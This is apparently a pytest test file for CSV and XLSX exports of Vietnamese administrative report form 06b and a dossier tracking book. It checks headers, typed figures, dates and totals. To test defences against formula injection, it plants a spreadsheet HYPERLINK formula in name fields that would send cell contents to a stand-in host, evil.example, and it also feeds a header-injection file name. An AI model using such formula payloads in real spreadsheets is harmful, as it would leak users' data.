"""Report 06 and the tracking book as files, read back: the CSV with the csv module, the XLSX with openpyxl
(merged header cells, header texts, typed numbers and dates, the totals row), and text that a spreadsheet
would evaluate made inert in both."""

import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from chalicelib.api.files import ascii_name, content_disposition
from chalicelib.services import report06_files, tracking_book_files
from chalicelib.services.spreadsheets import BOM, safe_text

ATTACK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào\")"


def figures(n: int, rate: float | None) -> dict:
    return {"received": {"total": 3 * n, "online": n, "direct_or_postal": 2 * n, "carried_over": n,
                         "for_resolution": 2 * n},
            "resolved": {"total": 2 * n, "early": n, "on_time": n, "late": 0},
            "in_progress": {"total": n, "within_deadline": n, "overdue": 0},
            "refused": 0, "withdrawn": n, "stopped": 0, "not_accepted": 1, "guided": 2, "supplement_requests": 3,
            "supplement_violations": 1, "apologies": 1, "rescheduled": 1, "on_time_rate": rate,
            "digitisation": {"digitised": n, "digitised_at_receipt": n, "reused": 0, "e_result": n},
            "official": {"received": {"total": 3 * n, "online": n, "direct_or_postal": n, "carried_over": n},
                         "resolved": {"total": 2 * n, "early": n, "on_time": n, "late": 0},
                         "in_progress": {"total": n, "within_deadline": n, "overdue": 0}, "on_time_rate": rate}}


REPORT = {"unit": "000.00.24.H56", "from": "2026-03-01", "to": "2026-03-31", "group_by": "unit", "form": "06b",
          "period": {"label": "Kỳ báo cáo (từ ngày 01/03/2026 đến ngày 31/03/2026)"},
          "reading_applied": {"note": "Hồ sơ rút được tính vào cột 9 (đúng hạn)"},
          "rows": [{"key": "000.00.11.H56", "name": "Sở Tư pháp", **figures(2, 1.0)},
                   {"key": "000.00.99.H56", "name": None, **figures(0, None)},
                   {"key": "000.00.13.H56", "name": ATTACK, **figures(1, 0.5)}],
          "total": figures(3, 0.8333)}
NAMES = {"000.00.11.H56": "Sở Tư pháp", "000.00.13.H56": ATTACK, "000.00.99.H56": "Phòng \"A\", tầng 2\nNhà B"}


def names(key: str) -> str | None:
    return NAMES.get(key)


@pytest.mark.parametrize("text, safe", [
    ("=1+1", "'=1+1"), ("+84912", "'+84912"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("＝1+1", "'＝1+1"), ("Nguyễn Văn An", "Nguyễn Văn An"), ("a=b", "a=b"), ("", ""),
    ("\x00=x", "'=x"), ("ab\x07c", "abc"),
])
def test_text_a_spreadsheet_would_evaluate_is_made_inert(text, safe):
    assert safe_text(text) == safe


def test_report06_csv_has_a_bom_crlf_one_vietnamese_header_and_the_json_figures():
    text = report06_files.to_csv(REPORT, names)
    assert text.startswith(BOM) and text.endswith("\r\n") and text.count("\r\n") == 5  # header, 3 rows, total
    rows = list(csv.reader(io.StringIO(text[len(BOM):], newline="")))
    assert rows[0][:3] == ["STT", "Đơn vị", "Mã"]
    assert rows[0][3] == "Số hồ sơ nhận giải quyết - Tổng số"
    assert rows[0][5] == "Số hồ sơ nhận giải quyết - Trong kỳ nhận giải quyết"
    assert rows[0][6] == "Số hồ sơ nhận giải quyết - Tiếp nhận tại bộ phận một cửa trong kỳ - Tổng số"
    assert len(set(rows[0])) == len(rows[0]) == 3 + len(report06_files.COLUMNS)
    assert [r[0] for r in rows[1:]] == ["1", "2", "3", ""]
    assert rows[2][1] == NAMES["000.00.99.H56"]  # commas, quotes and a line break survive the quoting
    assert rows[3][1] == "'" + ATTACK
    assert rows[4][1] == "Tổng cộng"
    for line, source in zip(rows[1:], [*REPORT["rows"], REPORT["total"]], strict=True):
        got = dict(zip((c.key for c in report06_files.COLUMNS), line[3:], strict=True))
        assert got["received.total_all"] == str(source["received"]["for_resolution"]
                                                + source["received"]["carried_over"])
        assert got["received.for_resolution"] == str(source["received"]["for_resolution"])
        assert got["received.total"] == str(source["received"]["total"])
        assert got["resolved.early"] == str(source["resolved"]["early"])
        assert got["in_progress.within_deadline"] == str(source["in_progress"]["within_deadline"])
        assert got["supplement_violations"] == str(source["supplement_violations"])
        assert got["on_time_rate"] == ("" if source["on_time_rate"] is None else str(source["on_time_rate"]))


def test_report06_xlsx_is_laid_out_like_form_06_with_typed_figures_and_a_totals_row():
    ws = load_workbook(io.BytesIO(report06_files.to_xlsx(REPORT, names, "Trung tâm Phục vụ hành chính công")))
    ws = ws["Chi tiết"]
    merged = {str(r) for r in ws.merged_cells.ranges}
    top, mid, low = 5, 6, 7
    # The form's groups: received over six columns (D:I), results over seven (J:P); their subgroups.
    assert {f"D{top}:I{top}", f"J{top}:P{top}", f"G{mid}:I{mid}", f"J{mid}:M{mid}", f"N{mid}:P{mid}"} <= merged
    assert {f"A{top}:A{low}", f"D{mid}:D{low}", f"E{mid}:E{low}", f"F{mid}:F{low}", f"Q{top}:Q{low}"} <= merged
    assert ws[f"D{top}"].value == "Số hồ sơ nhận giải quyết" and ws[f"J{top}"].value == "Kết quả giải quyết"
    assert ws[f"F{mid}"].value == "Trong kỳ nhận giải quyết"
    assert ws[f"G{mid}"].value == "Tiếp nhận tại bộ phận một cửa trong kỳ"
    assert ws[f"J{mid}"].value == "Số hồ sơ đã giải quyết"
    assert [ws.cell(low, c).value for c in range(10, 14)] == ["Tổng số", "Trước hạn", "Đúng hạn", "Quá hạn"]
    assert ws[f"A{top}"].alignment.wrap_text and ws.freeze_panes == "D9"
    assert "000.00.24.H56" in ws["A2"].value and "01/03/2026" in ws["A3"].value
    body = [[c.value for c in row] for row in ws.iter_rows(min_row=9)]
    assert len(body) == 4 and body[-1][0] == "Tổng cộng" and f"A{8 + 4}:C{8 + 4}" in merged
    assert body[2][1] == "'" + ATTACK
    total = REPORT["total"]
    assert body[-1][3] == total["received"]["for_resolution"] + total["received"]["carried_over"]
    assert body[-1][9] == total["resolved"]["total"] and isinstance(body[-1][9], int)
    rate = ws.cell(12, 3 + len(report06_files.COLUMNS))
    assert rate.value == pytest.approx(0.8333) and rate.number_format == "0.00%"
    assert ws.cell(10, 3 + len(report06_files.COLUMNS)).value is None  # nothing resolved: no rate


BOOK = {"unit": "000.00.24.H56", "unit_name": "Trung tâm", "from": "2026-03-01", "to": "2026-03-31", "count": 2,
        "rows": [
            {"number": 1, "code": "000.00.24.H56-260302-0001", "procedure": {"code": "2.001417", "name": "Cấp LLTP"},
             "applicant": {"name": ATTACK, "address": "-12 Lê Lợi", "phone": "0912345678"},
             "competent_unit": {"id": "000.00.11.H56", "name": "Sở Tư pháp"}, "channel": "direct",
             "taken_in_at": "2026-03-02T09:00:00+07:00", "received_at": "2026-03-02T09:00:00+07:00",
             "appointment_at": "2026-03-16T09:00:00+07:00", "transferred_at": "2026-03-02T09:00:00+07:00",
             "resolved_at": "2026-03-10T15:30:00+07:00", "returned_at": None, "status": "resolved",
             "national_code": 9, "label": "Đã giải quyết", "outcome": "early", "overdue": False,
             "rescheduled": False, "note": "Trả trước hạn"},
            {"number": 2, "code": "000.00.24.H56-260303-0001", "procedure": {"code": "2.001417", "name": "Cấp LLTP"},
             "applicant": {"name": "Trần Thị B", "address": None, "phone": None},
             "competent_unit": {"id": "000.00.11.H56", "name": "Sở Tư pháp"}, "channel": "postal",
             "taken_in_at": "2026-03-03T10:00:00+07:00", "received_at": None, "appointment_at": None,
             "transferred_at": None, "resolved_at": None, "returned_at": None, "status": "guided",
             "national_code": 3, "label": "Không được tiếp nhận", "outcome": "guided", "overdue": False,
             "rescheduled": False, "note": "Hướng dẫn bổ sung, hoàn thiện (mẫu 02)"}]}


def test_tracking_book_xlsx_has_the_books_columns_dates_as_dates_and_inert_text():
    ws = load_workbook(io.BytesIO(tracking_book_files.to_xlsx(BOOK)))["Sổ theo dõi hồ sơ"]
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"G6:K6", "A6:A7", "M6:M7", "A1:M1"} <= merged
    assert ws["G6"].value == "Ngày, tháng, năm" and ws["G7"].value == "Nhận hồ sơ"
    assert [ws.cell(6, c).value for c in range(1, 7)] == [
        "STT", "Mã hồ sơ", "Tên thủ tục hành chính", "Tên cá nhân, tổ chức", "Địa chỉ, số điện thoại",
        "Cơ quan chủ trì giải quyết"]
    assert ws.freeze_panes == "C8"
    first, second = ([c.value for c in row] for row in ws.iter_rows(min_row=8))
    assert first[0] == 1 and first[3] == "'" + ATTACK and first[4] == "'-12 Lê Lợi; 0912345678"
    assert first[6] == datetime(2026, 3, 2, 9, 0) and first[9] == datetime(2026, 3, 10, 15, 30)
    assert ws.cell(8, 7).number_format == "dd/mm/yyyy hh:mm" and first[10] is None
    assert second[11] == "Không được tiếp nhận" and second[12].startswith("Hướng dẫn")


def test_tracking_book_csv_has_one_line_per_dossier_and_local_times():
    text = tracking_book_files.to_csv(BOOK)
    rows = list(csv.reader(io.StringIO(text[len(BOM):], newline="")))
    assert rows[0][6] == "Nhận hồ sơ (ngày, tháng, năm)" and len(rows) == 3
    assert rows[1][3] == "'" + ATTACK and rows[1][6] == "2026-03-02 09:00" and rows[2][7] == ""


def test_the_file_name_has_an_ascii_fallback_and_the_exact_name():
    header = content_disposition("Sổ theo dõi_000.00.24.H56_2026.xlsx")
    assert header == ("attachment; filename=\"So-theo-doi_000.00.24.H56_2026.xlsx\"; "
                      "filename*=UTF-8''S%E1%BB%95%20theo%20d%C3%B5i_000.00.24.H56_2026.xlsx")
    assert ascii_name("\"; evil=\r\n.xlsx") == "evil-.xlsx"
    assert ascii_name("..") == "file"


def test_an_empty_report_and_an_empty_book_still_have_their_headers_and_the_totals_row():
    empty = {**REPORT, "rows": [], "total": figures(0, None)}
    ws = load_workbook(io.BytesIO(report06_files.to_xlsx(empty, names, "Trung tâm")))["Chi tiết"]
    assert [c.value for c in next(ws.iter_rows(min_row=9))][:4] == ["Tổng cộng", None, None, 0]
    assert len(csv_rows := list(csv.reader(io.StringIO(report06_files.to_csv(empty, names)[1:])))) == 2
    assert csv_rows[1][1] == "Tổng cộng"
    book = {**BOOK, "rows": [], "count": 0}
    ws = load_workbook(io.BytesIO(tracking_book_files.to_xlsx(book)))["Sổ theo dõi hồ sơ"]
    assert ws.max_row == 7 and ws["A6"].value == "STT"
    assert tracking_book_files.to_csv(book).count("\r\n") == 1


def test_report06_xlsx_opens_on_the_official_form_with_its_13_numbered_columns():
    book = load_workbook(io.BytesIO(report06_files.to_xlsx(REPORT, names, "UBND tỉnh Thanh Hóa")))
    assert book.sheetnames == ["Biểu 06b", "Chi tiết"]  # the enriched sheet second
    ws = book["Biểu 06b"]
    assert ws["A1"].value == "Biểu số II.06b/VPCP/KSTT" and ws["A4"].value.startswith("Kỳ báo cáo")
    assert [c.value for c in ws[9]] == [f"({n})" for n in range(1, 14)]
    total = [c.value for c in ws[13]]
    assert total[1] == "Tổng cộng" and total[2:] == [9, 3, 3, 3, 6, 3, 3, 0, 3, 3, 0]
    assert total[2] == total[6] + total[10]  # column 3 = column 7 + column 11
    assert any("cột 9" in str(c.value) for row in ws.iter_rows(min_row=14) for c in row)
